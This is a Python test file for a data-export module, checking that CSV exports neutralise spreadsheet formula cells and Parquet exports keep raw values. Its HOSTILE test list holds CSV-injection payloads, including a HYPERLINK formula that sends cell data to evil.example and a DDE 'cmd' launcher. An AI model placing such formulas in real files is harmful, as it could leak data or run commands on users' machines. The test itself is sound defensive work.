"""CSV exports neutralise spreadsheet formulas; Parquet keeps the raw values.

A cell starting with `=`, `+`, `-`, `@`, tab or carriage return is run as a formula by Excel,
LibreOffice and Google Sheets (OWASP, "CSV Injection"). Scraped pages and error messages are
attacker-controlled text, so the CSV export prefixes such cells with `'`; numbers (a negative
count) and plain numeric strings are left alone.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq
import sqlalchemy as sa

from storage.clock import utcnow
from storage.db import Database
from storage.export import export
from storage.schema import errors

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text", "-5", "+3.25", "a=b", ""]


def _fill(db: Database) -> None:
    rows = [
        {
            "run_id": 1,
            "task_id": -5,
            "item_key": text,
            "error_type": "invalid",
            "message": text,
            "created_at": utcnow(),
        }
        for text in HOSTILE + HARMLESS
    ]
    with db.begin() as conn:
        conn.execute(sa.insert(errors), rows)


def test_csv_cells_are_neutralised_and_parquet_kept_raw(db: Database, tmp_path: Path) -> None:
    _fill(db)
    out = tmp_path / "errors.csv"
    assert export(db, "errors", "csv", out) == len(HOSTILE) + len(HARMLESS)
    with out.open(newline="") as f:
        got = list(csv.DictReader(f))
    by_message = [r["message"] for r in got]
    assert by_message[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert [r["item_key"] for r in got[: len(HOSTILE)]] == ["'" + t for t in HOSTILE]
    assert by_message[len(HOSTILE) :] == HARMLESS
    assert {r["task_id"] for r in got} == {"-5"}  # a number column stays a number

    pq_out = tmp_path / "errors.parquet"
    export(db, "errors", "parquet", pq_out)
    table = pq.read_table(pq_out)
    assert table.column("message").to_pylist() == HOSTILE + HARMLESS
    assert set(table.column("task_id").to_pylist()) == {-5}
